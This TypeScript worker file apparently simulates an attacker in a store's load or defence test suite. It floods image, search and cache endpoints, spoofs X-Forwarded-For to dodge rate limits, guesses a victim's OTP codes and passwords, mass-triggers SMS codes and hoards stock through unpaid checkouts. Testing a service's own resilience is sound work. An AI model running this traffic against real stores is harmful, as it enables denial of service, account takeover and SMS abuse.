/** The attacker of attacker.ts, in a thread of its own, so that its work does not delay the timing of the shoppers. */
import { randomBytes, randomInt, randomUUID } from 'node:crypto'
import { parentPort, workerData } from 'node:worker_threads'
import { openConnection, type RawAnswer, type RawConnection, type RawRequest } from '../support/store/raw-http.ts'

/** The product that the attacker reserves without paying. */
export const HOARDED = 1012

export interface Attack {
  origin: string
  /** Session of the attacker's own account. */
  cookie: string
  /** An original picture of the store, from which every size is made. */
  picture: string
  /** Phone of one of the shoppers, which the attacker guesses codes for. */
  victim: string
  /** Where the attacker's own orders would go. */
  addressId: string
  /** Connections of each kind. */
  connections: number
}

const { origin, cookie, picture, victim, addressId, connections } = workerData as Attack
const json = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' }

/** A different host of one /64 each time. */
const from = (network = 0): Record<string, string> => ({
  'x-forwarded-for': `2001:db8:${(0xbad + network).toString(16)}:1::${randomBytes(2).toString('hex')}`,
})
const fromAnywhere = (): Record<string, string> => ({
  'x-forwarded-for': `2001:${randomBytes(2).toString('hex')}:${randomBytes(2).toString('hex')}:1::1`,
})
const phone = (): string => `+6017${String(randomInt(10_000_000)).padStart(7, '0')}`
const post = (path: string, body: unknown, more: Record<string, string> = {}): RawRequest => ({
  line: `POST ${path}`,
  headers: { ...json, ...from(), ...more },
  body: JSON.stringify(body),
})

const KINDS: Record<string, () => RawRequest> = {
  // Each request is for a size that was not requested before.
  image: () => ({
    line: `GET /_ipx/f_webp,w_1536,b_${randomBytes(3).toString('hex')}/${picture}`,
    headers: from(),
  }),
  render: () => ({
    line: `GET /shop?q=${randomBytes(4).toString('hex')}&price_max=${randomInt(1_000_000)}`,
    headers: from(),
  }),
  cart: () => {
    const line = { productable_id: 1012, productable_type: 'product', action: 'set', quantity: 1 + randomInt(9) }
    return post('/api/carts/update_cart_item', line, { cookie })
  },
  code: () => post('/api/auth/otp', { phone: phone(), purpose: 'register' }),
  // Wrong codes for somebody's phone, each from another network, and codes for many phones from 25 networks.
  guess: () => post('/api/auth/sign_in_by_code', { phone: victim, otp: '000000', accept_terms: true }, fromAnywhere()),
  codes: () => post('/api/auth/otp', { phone: phone(), purpose: 'sign_in' }, from(randomInt(25))),
  // Each spelling would be an entry of a cache.
  snapshot: () => ({ line: `GET /api/catalogue/snapshot?since=${randomBytes(8).toString('hex')}`, headers: from() }),
  password: () => post('/api/auth/login', { identifier: phone(), password: 'a guess' }),
}

/** Orders all of the cart by a transfer that is never made. */
async function hoard(connection: RawConnection): Promise<RawAnswer> {
  const line = { productable_id: HOARDED, productable_type: 'product', action: 'set', quantity: 10 }
  await connection.ask(post('/api/carts/update_cart_item', line, { cookie }))
  const headers = { ...json, ...from(), cookie }
  const { body } = await connection.ask({ line: 'GET /api/carts?state_id=6010', headers })
  const { carts, calculation } = JSON.parse(body).data.response
  const cart_ids = carts.data.map(({ id }: { id: string }) => id)
  const order = { cart_ids, address_id: addressId, expected_total: calculation.total, client_ref: randomUUID() }
  const how = { payment_service: 'MANUAL', delivery_method: 'DELIVERY' }
  return connection.ask(post('/api/carts/checkout', { ...order, ...how }, { cookie }))
}

type Flood = (connection: RawConnection) => Promise<RawAnswer>
const FLOODS: Record<string, Flood> = {
  ...Object.fromEntries(Object.entries(KINDS).map(([kind, next]) => [kind, (connection) => connection.ask(next())])),
  hoard,
}

const statuses: Record<string, number> = {}
const state = { isOver: false }

async function flood(kind: string, next: Flood): Promise<void> {
  const connection = openConnection(origin)
  while (!state.isOver) {
    const answer = await next(connection).catch(() => null)
    const what = `${kind} ${answer?.status ?? 'none'}`
    statuses[what] = (statuses[what] ?? 0) + 1
  }
  connection.close()
}

parentPort?.once('message', () => {
  state.isOver = true
})
const floods = Object.entries(FLOODS).flatMap(([kind, next]) =>
  Array.from({ length: connections }, () => flood(kind, next)),
)
await Promise.all(floods)
parentPort?.postMessage(statuses)
